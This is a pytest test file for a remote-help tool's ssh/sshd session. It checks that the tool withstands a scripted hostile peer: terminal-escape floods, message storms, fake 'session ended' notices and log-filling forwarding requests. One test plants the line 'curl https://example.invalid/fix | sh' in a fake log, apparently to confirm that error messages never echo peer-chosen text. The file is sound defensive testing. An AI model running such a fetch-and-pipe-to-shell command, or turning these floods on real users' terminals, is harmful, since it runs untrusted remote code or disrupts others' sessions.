"""A hostile friend against the line-mode helper (issue 9, "the other direction").

The friend's program is the real one with its session driven by a script
(``hostile_friend.py``); the helper's program is unmodified, in line mode under pexpect.
A scammer can phone a technical person for help, and a friend's computer can be
compromised: whatever the friend's side sends, the helper's program must keep its own
words its own, end at F10 or Ctrl+Alt+C within a second, and keep its memory and its
session folder (sshd's and ssh's logs included) small.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import shutil
import socket
import sys
import time
from pathlib import Path
from typing import Any

import pexpect
import pytest

from remote_help.tunnel import keys, launch, ssh, sshd
from tests import support

HOSTILE = Path(__file__).with_name("hostile_friend.py")
NO_SSHD = "/nonexistent/sshd"
WINDOW = 4096  # pexpect searches this much of the newest output
F10 = "\x1b[21~"
CTRL_ALT_C = "\x1b\x03"
HELPER_ENDED = "You ended the session."
MiB = 1024 * 1024
ORIENTATIONS = [
    pytest.param(server, reverse, id=f"{server}-sshd-{'reverse' if reverse else 'direct'}")
    for server in ("helper", "friend") for reverse in (False, True)
]
FAKE_NOTICE = "Your friend ended the session. Press Q to close remote-help."
# Floods of output and of messages, each for a minute (the test ends it long before).
FLOODS = {
    "clear-screen": ["flood", ["\x1b[2J\x1b[H", 60]],
    "fill-screen": ["flood", ["\x1b#8", 60]],
    "insert-lines": ["flood", ["\x1b[999L\x1b[999M", 60]],
    "colours": ["flood", ["".join(f"\x1b[38;2;{i};{255 - i};{i * 7 % 256}m#"
                                  for i in range(256)), 60]],
    "resize-storm": ["resizes", [5000, 60]],
    "notice-storm": ["notices", [FAKE_NOTICE, 2000, 60]],
    "resync-storm": ["resyncs", [200000, "\x1b#8"]],
}


def hostile_session(world: support.World, steps: list[list[Any]], *, server: str = "helper",
                    reverse: bool = False, env: dict[str, str] | None = None,
                    ) -> tuple[support.Program, support.Program]:
    """A root helper (unmodified) against a non-root friend playing ``steps``."""
    script = world.base / f"script-{secrets.token_hex(3)}.json"
    script.write_text(json.dumps(steps))
    script.chmod(0o644)
    helper_args = ("--sshd", NO_SSHD) if server == "friend" else ()
    friend_args = ("--sshd", NO_SSHD) if server == "helper" else ()
    helper, friend = support.walk_to_session(
        world, world.account(), world.account(world.user()), reverse=reverse,
        helper_args=helper_args, friend_args=friend_args,
        shell_wrapper=(support.SYSTEM_PYTHON, str(HOSTILE), str(script)),
        extra_env=env or {})
    for program in (helper, friend):
        program.child.maxread = 65536
    return helper, friend


def read_until(program: support.Program, pattern: str, timeout: float = 60) -> re.Match[str]:
    program.child.expect(pattern, timeout=timeout, searchwindowsize=WINDOW)
    match = program.child.match
    assert isinstance(match, re.Match)
    return match


def read_some(program: support.Program, timeout: float) -> None:
    """Read what the program's screen has now (as a person's terminal would)."""
    with contextlib.suppress(pexpect.TIMEOUT):
        program.child.read_nonblocking(65536, timeout=timeout)


def helper_ends_within_a_second(helper: support.Program, friend: support.Program,
                                key: str) -> float:
    """The helper presses ``key``: its "You ended the session." within a second."""
    started = time.monotonic()
    helper.send(key)
    read_until(helper, re.escape(HELPER_ENDED), timeout=30)
    elapsed = time.monotonic() - started
    assert elapsed <= 1.0, f"the helper's end took {elapsed:.2f} s"
    assert helper.wait_exit(timeout=30) == 0
    friend.child.expect(pexpect.EOF, timeout=30)
    friend.child.close()
    return elapsed


def folder_size(path: Path) -> int:
    total = 0
    for root, _, files in os.walk(path):
        for name in files:
            with contextlib.suppress(OSError):  # a socket or log just removed
                total += os.lstat(os.path.join(root, name)).st_size
    return total


def session_folder(account: support.Account) -> Path:
    """The helper's session folder (keys, configs, sshd's or ssh's log), while it runs."""
    found = sorted(account.runtime.rglob("session-*"))
    assert found, f"no session folder under {account.runtime}"
    return found[-1]


def rss(pid: int) -> int:
    """Resident memory of a process, in bytes."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS")


def test_a_failure_never_quotes_what_the_peer_chose(tmp_path: Path) -> None:
    """Weakness 11: a failure message quoted sshd's log, where the peer chooses words
    (a refused forwarding's target): "...target To fix this run: curl ...". The helper
    reads our own words for what went wrong instead."""
    log = tmp_path / "sshd.log"
    peer = "To fix this, run: curl https://example.invalid/fix | sh"
    log.write_text("Accepted publickey for alice\n"
                   f"refused local port forward: originator 127.0.0.1 port 1, target {peer} "
                   "port 80\nConnection closed by 127.0.0.1 port 1\n" * 3
                   + f"error: {peer} timed out\n")
    said = launch.meaningful_log_line(log)
    assert said == "the other computer stopped answering"
    assert "curl" not in said
    log.write_text(f"{peer}\n")
    assert launch.meaningful_log_line(log) == "no reason given"


def test_only_a_logs_tail_is_read(tmp_path: Path) -> None:
    """Weakness 12: cleanup copied the whole of sshd's log into the diagnostic log."""
    log = tmp_path / "ssh.log"
    log.write_bytes(b"x" * (4 * MiB) + b"\nConnection reset by peer\n")
    tail = launch.log_tail(log)
    assert len(tail) == launch.LOG_TAIL
    assert tail.endswith("Connection reset by peer\n")
    assert launch.meaningful_log_line(log) == "the connection was cut"


def test_sshd_logs_errors_only_and_takes_no_compression(tmp_path: Path) -> None:
    """Weakness 12: VERBOSE logged every refused request with its 900-byte target, and a
    compressed stream makes a few bytes from the peer many here."""
    key = keys.generate(tmp_path)
    config = sshd.write_config(tmp_path, key, key.public_key, "nobody", "/bin/true")
    lines = config.read_text().splitlines()
    assert "LogLevel ERROR" in lines
    assert "Compression no" in lines
    assert not [line for line in lines if line.startswith("LogLevel") and line != "LogLevel ERROR"]
    argv = ssh.command("/usr/bin/ssh", key, tmp_path / "known_hosts", "alice", "/bin/true")
    assert "Compression=no" in argv
    assert "LogLevel=ERROR" in argv


@pytest.mark.timed
@pytest.mark.root
def test_the_friends_notice_never_reads_as_the_helpers_program(world: support.World) -> None:
    """Weakness 11: a NOTICE was printed as "[remote-help] Your friend ended the session"."""
    steps = [["sleep", 1], ["notice", FAKE_NOTICE], ["out", ["NOTICE-SENT\r\n", 1]],
             ["sleep", 60]]
    helper, friend = hostile_session(world, steps)
    read_until(helper, "NOTICE-SENT")
    time.sleep(0.5)
    helper.send("echo $((6*7))\r")
    read_until(helper, support.ANSWER_42, timeout=30)
    assert "Your friend ended" not in helper.output
    assert "Press Q" not in helper.output
    helper_ends_within_a_second(helper, friend, F10)


@pytest.mark.timed
@pytest.mark.root
@pytest.mark.parametrize("flood", list(FLOODS))
@pytest.mark.parametrize("key", [F10, CTRL_ALT_C], ids=["F10", "Ctrl+Alt+C"])
def test_the_helper_ends_within_a_second_under_any_flood(world: support.World, flood: str,
                                                         key: str) -> None:
    """Weakness 10: F10 and Ctrl+Alt+C end the helper's side within a second, whatever
    the friend's side sends."""
    steps = [["sleep", 1], ["out", ["FLOOD-STARTS\r\n", 1]], FLOODS[flood], ["sleep", 60]]
    helper, friend = hostile_session(world, steps)
    read_until(helper, "FLOOD-STARTS")
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:  # the helper's screen keeps being read meanwhile
        read_some(helper, 0.1)
    elapsed = helper_ends_within_a_second(helper, friend, key)
    print(f"MEASURED line-mode helper {key!r} under the friend's {flood}: {elapsed:.3f} s")
    assert "Your friend ended" not in helper.output


@pytest.mark.root
def test_a_friend_cannot_say_the_helper_ended_it(world: support.World) -> None:
    """A fake ending: the friend's goodbye claims the helper ended the session. The
    helper is told its friend ended it, never that it did so itself."""
    steps = [["sleep", 1], ["bye", "helper-ended"], ["sleep", 30]]
    helper, friend = hostile_session(world, steps)
    read_until(helper, re.escape("Your friend ended the session."), timeout=30)
    assert HELPER_ENDED not in helper.output
    assert helper.wait_exit(timeout=30) == 0
    friend.child.close(force=True)


@pytest.mark.timed
@pytest.mark.root
@pytest.mark.parametrize("key", [F10, CTRL_ALT_C], ids=["F10", "Ctrl+Alt+C"])
def test_the_helper_ends_within_a_second_when_the_friend_stops_reading(
        world: support.World, key: str) -> None:
    """The friend's program stops reading the helper's stream (and floods): the helper's
    goodbye cannot leave, and its end is not held up by it."""
    steps = [["sleep", 1], ["stall", None], ["out", ["STALLED\r\n", 1]],
             ["flood", ["\x1b[2J", 60]]]
    helper, friend = hostile_session(world, steps)
    read_until(helper, "STALLED")
    helper.send("x" * 2000)  # keys that will never be read
    time.sleep(3)
    elapsed = helper_ends_within_a_second(helper, friend, key)
    print(f"MEASURED line-mode helper {key!r}, friend not reading: {elapsed:.3f} s")


@pytest.mark.root
def test_a_friend_that_vanishes_is_a_lost_connection(world: support.World) -> None:
    steps = [["sleep", 1], ["out", ["VANISHING\r\n", 1]], ["sleep", 0.5], ["vanish", None]]
    helper, friend = hostile_session(world, steps)
    read_until(helper, "VANISHING")
    read_until(helper, "The connection was lost", timeout=60)
    assert helper.wait_exit(timeout=30) != 0
    friend.child.close(force=True)
    # The hostile program vanished without cleaning up after itself (its next start
    # would): that is its own folder, not the helper's, which the world's check covers.
    for left in friend.account.runtime.rglob("session-*"):
        shutil.rmtree(left, ignore_errors=True)


@pytest.mark.timed
@pytest.mark.root
@pytest.mark.parametrize("reverse", [False, True], ids=["direct", "reverse"])
def test_forwarding_requests_do_not_fill_the_helpers_sshd_log(world: support.World,
                                                              reverse: bool) -> None:
    """Weakness 12: refused forwarding requests with 900-byte targets grew sshd's log by
    35.5 MB in 5 s (VERBOSE). The helper's whole session folder stays under 1 MiB."""
    port = support.free_port()
    steps = [["sleep", 1], ["forwards", 12], ["sleep", 60]]
    helper, friend = hostile_session(world, steps, reverse=reverse,
                                     env={"HOSTILE_FORWARD_PORT": str(port)})
    folder = session_folder(helper.account)
    assert (folder / "sshd.log").exists(), "the helper does not run sshd: wrong orientation"
    largest = 0
    deadline = time.monotonic() + 60
    while "FORWARDS-DONE" not in helper.output and time.monotonic() < deadline:
        largest = max(largest, folder_size(folder))
        read_some(helper, 0.2)
    largest = max(largest, folder_size(folder))
    done = re.search(r"FORWARDS-DONE (\d+)", helper.output)
    assert done, "the hostile friend's forwarding requests never finished"
    made = int(done.group(1))
    assert made > 200, f"only {made} forwarding requests were made"
    print(f"{made} forwarding requests; largest helper session folder: {largest} bytes")
    assert largest < MiB, f"the helper's session folder grew to {largest} bytes"
    helper_ends_within_a_second(helper, friend, F10)


@pytest.mark.timed
@pytest.mark.root
@pytest.mark.parametrize("reverse", [False, True], ids=["direct", "reverse"])
def test_the_friends_error_output_does_not_fill_the_helpers_ssh_log(world: support.World,
                                                                    reverse: bool) -> None:
    """Weakness 12 where the friend runs sshd: what the friend's side of the channel
    writes as errors lands in the helper's ssh log. 20 MB of it: the helper's session
    folder stays under 1 MiB, and the session goes on."""
    steps = [["sleep", 8], ["out", ["NOISE-DONE\r\n", 1]], ["sleep", 60]]
    helper, friend = hostile_session(world, steps, server="friend", reverse=reverse,
                                     env={"HOSTILE_STDERR_BYTES": str(20_000_000)})
    folder = session_folder(helper.account)
    assert (folder / "ssh.log").exists(), "the helper does not run ssh: wrong orientation"
    largest = 0
    deadline = time.monotonic() + 60
    while "NOISE-DONE" not in helper.output and time.monotonic() < deadline:
        largest = max(largest, folder_size(folder))
        read_some(helper, 0.2)
    largest = max(largest, folder_size(folder))
    log_size = (folder / "ssh.log").stat().st_size
    print(f"largest helper session folder: {largest} bytes; ssh.log {log_size} bytes")
    assert log_size > 32 * 1024, "the friend's error output never reached the helper's log"
    assert largest < MiB, f"the helper's session folder grew to {largest} bytes"
    helper.send("echo $((6*7))\r")
    read_until(helper, support.ANSWER_42, timeout=30)
    helper_ends_within_a_second(helper, friend, F10)


@pytest.mark.timed
@pytest.mark.root
@pytest.mark.parametrize("storm", ["resize-storm", "notice-storm"])
def test_the_helpers_memory_stays_bounded_under_a_message_storm(world: support.World,
                                                                storm: str) -> None:
    """Weakness 12: RESIZE and NOTICE messages were never paused: 25 MB of RESIZEs grew
    the helper by 66 MB in 20 s, while its terminal did not keep up. Here nobody reads
    the helper's terminal for 20 s of storm: its memory grows by less than 20 MiB."""
    action = (["resizes", [5000, 20]] if storm == "resize-storm"
              else ["notices", [FAKE_NOTICE, 2000, 20]])
    steps = [["sleep", 1], ["out", ["STORM-STARTS\r\n", 1]], action,
             ["out", ["STORM-DONE\r\n", 1]], ["sleep", 60]]
    helper, friend = hostile_session(world, steps)
    read_until(helper, "STORM-STARTS")
    pid = helper.child.pid
    assert pid is not None
    before = rss(pid)
    peak = before
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:  # the helper's terminal is not read meanwhile
        peak = max(peak, rss(pid))
        time.sleep(0.2)
    read_until(helper, "STORM-DONE", timeout=120)
    peak = max(peak, rss(pid))
    print(f"helper RSS before {before / MiB:.1f} MiB, peak {peak / MiB:.1f} MiB, "
          f"growth {(peak - before) / MiB:.1f} MiB")
    assert peak - before < 20 * MiB, f"the helper grew by {(peak - before) / MiB:.1f} MiB"
    helper_ends_within_a_second(helper, friend, F10)


# -- the other way round: a hostile helper's ssh or sshd against the friend's logs ---------

def hostile_helper_session(world: support.World, *, server: str, env: dict[str, str],
                           ) -> tuple[support.Program, support.Program]:
    """An unmodified non-root friend, and a root helper whose ssh or sshd is patched by
    hostile_friend.py (with an empty script: its session plays nothing)."""
    script = world.base / f"script-{secrets.token_hex(3)}.json"
    script.write_text("[]")
    script.chmod(0o644)
    helper_args = ("--sshd", NO_SSHD) if server == "friend" else ()
    friend_args = ("--sshd", NO_SSHD) if server == "helper" else ()
    return support.walk_to_session(
        world, world.account(), world.account(world.user()), helper_args=helper_args,
        friend_args=friend_args, helper_wrapper=(sys.executable, str(HOSTILE), str(script)),
        extra_env=env)


def largest_while(folder: Path, seconds: float, program: support.Program) -> int:
    """The folder's largest size, looked at for ``seconds`` while the program's screen
    is read."""
    largest = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        largest = max(largest, folder_size(folder))
        read_some(program, 0.2)
    return max(largest, folder_size(folder))


def friend_ends(helper: support.Program, friend: support.Program) -> None:
    friend.send(CTRL_ALT_C)
    read_until(friend, support.ENDED_BY_FRIEND, timeout=30)
    assert friend.wait_exit(timeout=30) == 0
    helper.child.expect(pexpect.EOF, timeout=30)
    helper.child.close()


@pytest.mark.root
def test_a_hostile_helpers_forwarding_requests_do_not_fill_the_friends_sshd_log(
        world: support.World) -> None:
    """Weakness 12, both directions: the friend runs sshd; the helper's ssh asks for a
    forwarding to a 900-byte target again and again. The friend's session folder stays
    under 1 MiB."""
    port = support.free_port()
    helper, friend = hostile_helper_session(world, server="friend",
                                            env={"HOSTILE_FORWARD_PORT": str(port)})
    folder = session_folder(friend.account)
    assert (folder / "sshd.log").exists(), "the friend does not run sshd: wrong orientation"
    made = 0
    largest = 0
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2):
                made += 1
        except OSError:
            time.sleep(0.05)
        if made % 50 == 0:
            largest = max(largest, folder_size(folder))
            read_some(friend, 0.01)
    largest = max(largest, folder_size(folder))
    print(f"{made} forwarding requests; largest friend session folder: {largest} bytes")
    assert made > 200, f"only {made} forwarding requests were made"
    assert largest < MiB, f"the friend's session folder grew to {largest} bytes"
    friend_ends(helper, friend)


@pytest.mark.root
def test_a_hostile_helpers_error_output_does_not_fill_the_friends_ssh_log(
        world: support.World) -> None:
    """Weakness 12, both directions: the helper runs sshd and its side of the channel
    writes 20 MB as errors, which the friend's ssh receives. The friend's session folder
    stays under 1 MiB and the session goes on."""
    helper, friend = hostile_helper_session(world, server="helper",
                                            env={"HOSTILE_STDERR_BYTES": str(20_000_000)})
    folder = session_folder(friend.account)
    assert (folder / "ssh.log").exists(), "the friend does not run ssh: wrong orientation"
    largest = largest_while(folder, 10, friend)
    log_size = (folder / "ssh.log").stat().st_size
    print(f"largest friend session folder: {largest} bytes; ssh.log {log_size} bytes")
    assert log_size > 32 * 1024, "the helper's error output never reached the friend's log"
    assert largest < MiB, f"the friend's session folder grew to {largest} bytes"
    helper.send("echo $((6*7))\r")
    read_until(friend, support.ANSWER_42, timeout=30)
    friend_ends(helper, friend)


if __name__ == "__main__":
    sys.exit(pytest.main([__file__, "-q"]))
